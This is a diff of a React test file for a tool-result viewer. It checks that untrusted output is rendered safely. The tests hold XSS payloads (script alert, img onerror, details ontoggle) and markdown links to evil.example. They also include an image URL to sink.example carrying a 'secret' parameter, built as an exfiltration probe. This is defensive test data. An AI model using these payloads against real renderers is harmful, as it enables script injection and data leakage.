@@ -1,7 +1,6 @@
 import { screen, waitFor, within } from "@testing-library/react";
 import { describe, expect, it } from "vitest";
-import type { Block, CallView, JsonValue } from "../bindings/host";
-import type { Command } from "../platform";
+import type { Block, CallResult, CallView, JsonValue } from "../bindings/host";
 import { call, foreign, problem, result, textBlock as text } from "../platform/fakeHost/make";
 import { expectAxeClean } from "../test/axe";
 import { withHeights } from "../test/heights";
@@ -13,13 +12,13 @@ import { addLines, ROW } from "./ResultViewLines";
 
 withHeights();
 
-function offset(args: { offset: number }): number {
-  return args.offset;
-}
-
 function view(over: Partial<CallView> = {}): CallView {
   return call({ id: "c", server: "srv-files", tool: "t", ...over });
 }
+
+/** The view of a call with a result of these blocks. */
+const showBlocks = (blocks: Block[], over: Partial<CallResult> = {}, of: Partial<CallView> = {}) =>
+  show(<ResultView call={view({ result: result(blocks, over), ...of })} />);
 
 describe("a result", () => {
   it("shows every kind of block in a slot of the server", async () => {
@@ -38,7 +37,7 @@ describe("a result", () => {
       },
       { kind: "unshown", reason: "Its bytes are not a picture.", json: foreign("{}") },
     ];
-    await show(<ResultView call={view({ result: result(blocks, { more_blocks: 2 }) })} />);
+    await showBlocks(blocks, { more_blocks: 2 });
     expect(screen.getByText("plain words")).toBeVisible();
     expect(await screen.findByRole("img")).toHaveAttribute("src", expect.stringMatching(/^data:image\//));
     expect(await screen.findByLabelText("Audio 3 from the server")).toBeVisible();
@@ -50,7 +49,7 @@ describe("a result", () => {
 
   it("draws hundreds of blocks a few with each frame, and all of them in the end", async () => {
     const blocks = Array.from({ length: 110 }, (_, index) => text(`block ${index + 1}`));
-    await show(<ResultView call={view({ result: result(blocks) })} />);
+    await showBlocks(blocks);
     expect(screen.getAllByRole("figure").length).toBeLessThan(110);
     expect(screen.getByText("block 1")).toBeVisible();
     expect(await screen.findByText("block 110")).toBeVisible();
@@ -60,7 +59,7 @@ describe("a result", () => {
   // Proves TOL-25.
   it("says what is not for a model", async () => {
     const blocks = [text("for both"), text("for you")];
-    await show(<ResultView call={view({ result: result(blocks, { for_person: [1] }) })} />);
+    await showBlocks(blocks, { for_person: [1] });
     expect(screen.getAllByText("for you, not for a model")).toHaveLength(1);
   });
 
@@ -78,7 +77,7 @@ describe("a result", () => {
         "# Hi\n\n[click](https://evil.example/?d=1) <a href='https://evil.example'>raw</a>\n\n<https://evil.example/auto> www.evil.example",
       ),
     ];
-    const { container } = await show(<ResultView call={view({ result: result(blocks) })} />);
+    const { container } = await showBlocks(blocks);
     expect(container.querySelector("a")).toBeNull();
     expect(screen.getByText("https://evil.example/?d=1")).toBeVisible();
   });
@@ -87,7 +86,7 @@ describe("a result", () => {
   it("markdown loads no picture and makes no markup", async () => {
     const words =
       "# Hi\n\n![p](https://sink.example/p?d=secret)\n\n<img src=x onerror=alert(1)><script>alert(1)</script>";
-    const { container } = await show(<ResultView call={view({ result: result([text(words)]) })} />);
+    const { container } = await showBlocks([text(words)]);
     expect(container.querySelector("img, script, iframe, style")).toBeNull();
     expect(screen.getByText(/Image “p”/)).toHaveTextContent(
       "Image “p” at https://sink.example/p?d=secret was not loaded",
@@ -97,21 +96,14 @@ describe("a result", () => {
 
   // Proves S-41.
   it("characters hidden as entities are written out after markdown was read", async () => {
-    const { container } = await show(
-      <ResultView
-        call={view({
-          result: result([text("# Hi\n\nsafe&#x202e;txt&#8203;end [a&#x2066;](https://x.example/&#x200b;)")]),
-        })}
-      />,
-    );
+    const words = "# Hi\n\nsafe&#x202e;txt&#8203;end [a&#x2066;](https://x.example/&#x200b;)";
+    const { container } = await showBlocks([text(words)]);
     expect(container.textContent).toContain("⟨U+202E⟩txt⟨U+200B⟩end");
     expect(container.textContent).not.toMatch(/[\u200b\u202e\u2066]/);
   });
 
   it("is plain first when it is not like Markdown, and can be switched when it is", async () => {
-    const { user } = await show(
-      <ResultView call={view({ result: result([text("- one\n- two **bold**")]) })} />,
-    );
+    const { user } = await showBlocks([text("- one\n- two **bold**")]);
     expect(screen.getByText("bold").tagName).toBe("STRONG");
     await user.click(screen.getByRole("button", { name: "Plain" }));
     expect(screen.getByText(/- two \*\*bold\*\*/)).toBeVisible();
@@ -122,30 +114,22 @@ describe("a result", () => {
     const denied = [
       "“Files” sent a model request during this call. You denied this model request. No model received it.",
     ];
-    await show(<ResultView call={view({ denied, result: result([text("All went well.")]) })} />);
+    await showBlocks([text("All went well.")], {}, { denied });
     expect(screen.getByText(/You denied this model request/)).toBeVisible();
     expect(screen.getByText("All went well.")).toBeVisible();
   });
 
   it("tells a tool that says it failed from a call that failed", async () => {
-    const { unmount } = await show(
-      <ResultView call={view({ state: "tool_error", result: result([text("no such file")]) })} />,
-    );
+    const { unmount } = await showBlocks([text("no such file")], {}, { state: "tool_error" });
     expect(screen.getByText(/tool reported an error/)).toBeVisible();
     expect(screen.getByText("no such file")).toBeVisible();
     expect(screen.queryByRole("alert")).toBeNull();
     unmount();
-    const silent = await show(<ResultView call={view({ state: "tool_error", result: result([]) })} />);
+    const silent = await showBlocks([], {}, { state: "tool_error" });
     expect(screen.getByText("The tool reported an error without a message.")).toBeVisible();
     silent.unmount();
-    await show(
-      <ResultView
-        call={view({
-          state: "failed",
-          problem: problem("call.timeout", { sentence: "“Files” gave no answer.", remedy: "Try again." }),
-        })}
-      />,
-    );
+    const late = problem("call.timeout", { sentence: "“Files” gave no answer.", remedy: "Try again." });
+    await show(<ResultView call={view({ state: "failed", problem: late })} />);
     expect(screen.getByRole("alert")).toHaveTextContent("“Files” gave no answer.");
     expect(screen.queryByText(/The tool says/)).toBeNull();
   });
@@ -165,17 +149,11 @@ describe("a result", () => {
   });
 
   it("says whether structured content matches its schema, and what does not", async () => {
-    const { user } = await show(
-      <ResultView
-        call={view({
-          result: result([text("x")], {
-            structured: { files: ["a"] },
-            matches_schema: false,
-            mismatch: [{ path: "/files", message: "has too few" }],
-          }),
-        })}
-      />,
-    );
+    const { user } = await showBlocks([text("x")], {
+      structured: { files: ["a"] },
+      matches_schema: false,
+      mismatch: [{ path: "/files", message: "has too few" }],
+    });
     expect(screen.getByText("does not match its output schema")).toBeVisible();
     await user.click(screen.getByRole("tab", { name: "Structured" }));
     expect(screen.getByText(/has too few/)).toBeVisible();
@@ -187,22 +165,13 @@ describe("a result", () => {
   it("10 MB of text arrive in pieces, stay virtual and end", async () => {
     const chunk = `${"x".repeat(62)}\n`.repeat(4096);
     const bytes = chunk.length * 40;
-    const block: Block = {
-      kind: "text",
-      text: foreign("the beginning"),
-      whole: { handle: "big", bytes },
-      bytes,
-    };
-    const { user, fake, container } = await show(<ResultView call={view({ result: result([block]) })} />);
-    const ask = fake.call.bind(fake);
-    fake.call = (async (name: Command, args: never) =>
-      name === "read_payload"
-        ? {
-            text: chunk,
-            next: offset(args) + chunk.length < bytes ? offset(args) + chunk.length : null,
-            bytes,
-          }
-        : ask(name, args)) as typeof fake.call;
+    const whole = { handle: "big", bytes };
+    const block: Block = { kind: "text", text: foreign("the beginning"), whole, bytes };
+    const { user, fake, container } = await showBlocks([block]);
+    fake.reply("read_payload", ({ offset }) => {
+      const next = offset + chunk.length;
+      return { text: chunk, next: next < bytes ? next : null, bytes };
+    });
     await user.click(screen.getByRole("button", { name: "Show all, 9.8 MB" }));
     await waitFor(() => expect(screen.getByText("9.8 MB, 163,841 lines")).toBeVisible(), { timeout: 10_000 });
     expect(container.querySelectorAll("*").length).toBeLessThan(400);
@@ -211,12 +180,8 @@ describe("a result", () => {
   it("one line is not several", async () => {
     const whole = { handle: "one", bytes: 6 };
     const block: Block = { kind: "text", text: foreign("only"), whole, bytes: 6 };
-    const { user, fake } = await show(<ResultView call={view({ result: result([block]) })} />);
-    const ask = fake.call.bind(fake);
-    fake.call = (async (name: Command, args: never) =>
-      name === "read_payload"
-        ? { text: "only 1", next: null, bytes: 6 }
-        : ask(name, args)) as typeof fake.call;
+    const { user, fake } = await showBlocks([block]);
+    fake.reply("read_payload", () => ({ text: "only 1", next: null, bytes: 6 }));
     await user.click(screen.getByRole("button", { name: /^Show all/ }));
     expect(await screen.findByText(/, 1 line$/)).toBeVisible();
   });
@@ -239,25 +204,14 @@ describe("payloads in a result", () => {
     "<details open ontoggle=window.__pwned=1>",
   ];
   it.each(payloads)("%s stays text", async (payload) => {
-    const { container } = await show(
-      <ResultView
-        call={view({
-          outcome: payload,
-          result: result([
-            text(payload),
-            text(`# Like Markdown\n\n${payload}`),
-            {
-              kind: "link",
-              uri: foreign(payload),
-              name: foreign(payload),
-              description: foreign(payload),
-              mime: foreign(payload),
-            },
-            { kind: "unshown", reason: "no", json: foreign(payload) },
-          ]),
-        })}
-      />,
-    );
+    const words = foreign(payload);
+    const blocks: Block[] = [
+      text(payload),
+      text(`# Like Markdown\n\n${payload}`),
+      { kind: "link", uri: words, name: words, description: words, mime: words },
+      { kind: "unshown", reason: "no", json: words },
+    ];
+    const { container } = await showBlocks(blocks, {}, { outcome: payload });
     expect(
       container.querySelector("a, script, img, iframe, svg[onload], style, meta, form, input, details"),
     ).toBeNull();
@@ -297,7 +251,7 @@ describe("the tree", () => {
 
   it("opens and closes by key, and keeps a name called __proto__ apart", async () => {
     const value = JSON.parse('{"__proto__":{"a":1},"b":[1,2,3]}') as JsonValue;
-    const { user } = await show(<ResultView call={view({ result: result([], { structured: value }) })} />);
+    const { user } = await showBlocks([], { structured: value });
     const tree = await screen.findByRole("tree");
     expect(await within(tree).findByText("__proto__")).toBeVisible();
     tree.focus();
